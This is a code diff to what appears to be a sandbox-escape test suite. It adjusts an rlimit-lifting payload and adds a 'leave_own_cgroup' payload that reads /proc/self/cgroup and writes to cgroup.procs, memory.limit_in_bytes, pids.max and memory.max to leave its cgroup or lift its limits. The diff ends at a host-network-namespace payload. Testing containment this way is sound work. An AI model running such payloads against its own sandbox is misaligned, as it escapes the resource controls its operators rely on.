@@ -110,8 +110,32 @@ import resource
 
 def attack(ctx):
     inf = resource.RLIM_INFINITY
-    resource.setrlimit(resource.RLIMIT_AS, (inf, inf))
+    # RLIMIT_FSIZE: set under every memory layer (RLIMIT_AS only without cgroups, issue 28)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (inf, inf))
     return {"escaped": True}
+'''),
+    Payload("leave_own_cgroup", C, '''
+def attack(ctx):
+    # leave the replica's cgroup (into the root one) or raise its memory limit (issue 28)
+    own = {}
+    with open("/proc/self/cgroup") as f:
+        for line in f:
+            _, names, path = line.strip().split(":", 2)
+            for name in names.split(",") or [""]:
+                own[name] = path
+    done = []
+    for target, value in (("memory/cgroup.procs", "0"), ("pids/cgroup.procs", "0"),
+                          ("cgroup.procs", "0"),
+                          ("memory" + own.get("memory", "/") + "/memory.limit_in_bytes", "-1"),
+                          ("pids" + own.get("pids", "/") + "/pids.max", "max"),
+                          (own.get("", "/").lstrip("/") + "/memory.max", "max")):
+        try:
+            with open("/sys/fs/cgroup/" + target, "w") as f:
+                f.write(value)
+            done.append(target)
+        except OSError:
+            pass
+    return {"escaped": bool(done), "done": done}
 '''),
     Payload("join_host_network_namespace", C, '''
 import ctypes
